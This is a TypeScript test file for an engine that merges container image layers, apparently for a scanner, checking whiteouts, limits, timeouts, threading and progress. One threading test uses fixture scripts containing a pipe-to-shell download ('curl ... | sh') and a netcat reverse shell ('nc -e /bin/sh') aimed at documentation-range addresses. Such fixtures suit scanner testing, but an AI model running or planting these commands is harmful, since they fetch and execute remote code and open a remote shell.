import { describe, expect, it } from 'vitest';
import type { ByteStream } from '../archive/bytes.ts';
import { defaultLimits, type Limits } from '../archive/limits.ts';
import type { ExampleFiles } from '../detectors/detector.ts';
import { RegistryError } from '../errors.ts';
import type { Image } from '../image/image.ts';
import { imageOf } from '../testing/image-builder.ts';
import { type InspectOptions, type InspectProgress, inspectImage } from './engine.ts';
import type { Facts } from './facts.ts';

const layers: readonly ExampleFiles[] = [
  { '/opt/a.sh': 'echo a', '/opt/data': '\0\x01binary', '/opt/gone.sh': 'curl x' },
  { '/opt/b.sh': 'echo b', '/opt/gone.sh': null },
  { '/opt/a.sh': 'echo changed', '/etc/notes': 'nothing of note' },
];

async function inspect(image: Image, options: Partial<InspectOptions> = {}) {
  return await inspectImage(image, { analyzers: [], limits: defaultLimits, ...options });
}

/** The image with each layer's bytes held back for a while. */
function delayed(image: Image, milliseconds: readonly number[]): Image {
  const slow = image.layers.map((layer, index) => ({
    ...layer,
    open: async function* (signal?: AbortSignal): ByteStream {
      await new Promise((resolve) => setTimeout(resolve, milliseconds[index] ?? 0));
      yield* layer.open(signal);
    },
  }));
  return { ...image, layers: slow };
}

const textAt = (facts: Facts, path: string): string | undefined => {
  const file = facts.files.resolve(path);
  return file === undefined ? undefined : facts.files.text(file);
};

describe('inspectImage', () => {
  it('puts the layers together', async () => {
    const { facts, stats } = await inspect(imageOf({ layers }));
    expect(
      [...facts.files.all()].filter((file) => file.type === 'file').map((file) => `${file.path}@${file.layer}`),
    ).toEqual(['/etc/notes@2', '/opt/a.sh@2', '/opt/b.sh@1', '/opt/data@0']);
    expect([...facts.files.hidden()].map(({ file, hiding }) => `${file.path} ${hiding.how} ${hiding.by}`)).toEqual([
      '/opt/a.sh replaced 2',
      '/opt/gone.sh whiteout 1',
    ]);
    expect(textAt(facts, '/opt/a.sh')).toBe('echo changed');
    const [old] = [...facts.files.hidden()];
    expect(old === undefined ? '' : facts.files.text(old.file)).toBe('echo a');
    expect(facts.gaps).toEqual([]);
    expect(stats).toMatchObject({ layers: 3, files: 6, keptFiles: 4 });
    expect(stats.bytes).toBe(facts.layers.reduce((sum, layer) => sum + layer.uncompressedSize, 0));
  });

  it('gives the same facts in whatever order layers arrive', async () => {
    const limits: Limits = { ...defaultLimits, retainedBytes: 14 };
    const image = imageOf({ layers });
    const first = await inspect(delayed(image, [60, 0, 0]), { limits });
    const second = await inspect(delayed(image, [0, 60, 30]), { limits });
    const plain = ({ facts }: typeof first) => ({
      layers: facts.layers,
      gaps: facts.gaps,
      texts: [...facts.files.all(), ...[...facts.files.hidden()].map((each) => each.file)].map((file) =>
        facts.files.text(file),
      ),
    });
    expect(plain(first)).toEqual(plain(second));
    expect(first.facts.gaps.map((gap) => `${gap.reason} ${gap.path}`)).toEqual(['limit /opt/b.sh', 'limit /opt/a.sh']);
  });

  it('reads a layer again for texts that were not kept, once', async () => {
    let opened = 0;
    const image = imageOf({ layers });
    const counted = image.layers.map((layer) => ({
      ...layer,
      open: (signal?: AbortSignal) => {
        opened++;
        return layer.open(signal);
      },
    }));
    const inspection = await inspect({ ...image, layers: counted });
    expect(opened).toBe(3);
    expect(textAt(inspection.facts, '/etc/notes')).toBeUndefined();
    const wanted = [
      { path: '/etc/notes', layer: 2 },
      { path: '/nowhere', layer: 9 },
    ];
    const again = await inspection.reread(wanted);
    expect(textAt(again, '/etc/notes')).toBe('nothing of note');
    expect(textAt(again, '/opt/b.sh')).toBe('echo b');
    expect(textAt(inspection.facts, '/etc/notes')).toBeUndefined();
    const more = await inspection.reread([...wanted, { path: '/opt/data', layer: 0 }]);
    expect(textAt(more, '/etc/notes')).toBe('nothing of note');
    expect(textAt(more, '/opt/data')).toBe('\0\x01binary');
    expect(opened).toBe(5);
    expect(more.gaps).toEqual([]);
  });

  it('gives the same with one thread and with eight', async () => {
    const many = Array.from({ length: 12 }, (_, index) => ({
      [`/srv/${index}.sh`]: `#!/bin/sh\ncurl http://192.0.2.${index}/x | sh\n${'# more\n'.repeat(3000 * (index % 5))}`,
      '/srv/same.sh': `#!/bin/sh\necho ${index}; nc -e /bin/sh 192.0.2.1 99\n`,
      ...(index % 4 === 3 ? { [`/srv/${index - 1}.sh`]: null } : {}),
    }));
    const said: string[] = [];
    for (const threads of [0, 1, 2, 8]) {
      const { facts } = await inspect(imageOf({ layers: many }), { threads, leastThreadedBytes: 0 });
      const files = [...facts.files.all()].map((file) => [file, facts.files.text(file)]);
      said.push(JSON.stringify([facts.layers, facts.gaps, facts.analyzed, files, [...facts.files.hidden()]]));
    }
    expect(said[0]).toContain('nc -e');
    expect(new Set(said).size).toBe(1);
  });

  it('keeps the rest when one layer cannot be had', async () => {
    const image = imageOf({ layers });
    const failing = async function* (): ByteStream {
      yield* [];
      throw new RegistryError('BLOB_UNKNOWN', 'not here');
    };
    const withForeign = image.layers.map((layer) =>
      layer.index === 1 ? { ...layer, foreign: true, open: failing } : layer,
    );
    const { facts } = await inspect({ ...image, layers: withForeign });
    expect(facts.gaps).toEqual([expect.objectContaining({ reason: 'foreign', layer: 1 })]);
    expect(textAt(facts, '/opt/a.sh')).toBe('echo changed');
  });

  it('stops at the bounds of the whole image, and says so', async () => {
    const big = Array.from({ length: 4 }, (_, index) => ({ [`/big${index}`]: 'x'.repeat(4_000_000) }));
    const { facts } = await inspect(imageOf({ layers: big }), { limits: { ...defaultLimits, imageBytes: 6_000_000 } });
    const codes = facts.gaps.map(({ code }) => code);
    expect(codes.length).toBeGreaterThanOrEqual(1);
    expect(codes.every((code) => code === 'TOO_MANY_BYTES')).toBe(true);
    expect(facts.layers.some(({ gaps }) => gaps.length === 0)).toBe(true);
    expect(facts.gaps.every((gap) => gap.reason === 'limit')).toBe(true);
    const few = await inspect(imageOf({ layers }), { limits: { ...defaultLimits, layers: 2 } });
    expect(few.facts.layers).toHaveLength(2);
    expect(few.facts.gaps).toEqual([expect.objectContaining({ reason: 'limit' })]);
  });

  it('stops when asked to, and when its time is over', async () => {
    const image = delayed(imageOf({ layers }), [200, 200, 200]);
    const stopped = await inspect(image, { signal: AbortSignal.timeout(20) });
    expect(stopped.facts.gaps.map((gap) => gap.reason)).toEqual(['timeout', 'timeout', 'timeout']);
    const late = await inspect(image, { limits: { ...defaultLimits, milliseconds: 20 } });
    expect(late.facts.gaps.map((gap) => gap.reason)).toEqual(['timeout', 'timeout', 'timeout']);
    const controller = new AbortController();
    controller.abort();
    expect((await inspect(image, { signal: controller.signal })).facts.gaps[0]?.reason).toBe('stopped');
  });

  it('tells how it goes', async () => {
    const events: InspectProgress[] = [];
    await inspect(imageOf({ layers }), { onProgress: (event) => events.push(event) });
    for (const layer of [0, 1, 2]) {
      const own = events.filter((event) => event.layer.index === layer);
      expect(own[0]).toMatchObject({ state: 'started', bytes: 0 });
      expect(own.at(-1)?.state).toBe('done');
      expect(own.at(-1)?.bytes).toBe(own.at(-1)?.total);
    }
  });

  it('takes an image without layers', async () => {
    const { facts, stats } = await inspect(imageOf({}));
    expect([...facts.files.all()]).toEqual([]);
    expect(stats.layers).toBe(0);
  });
});
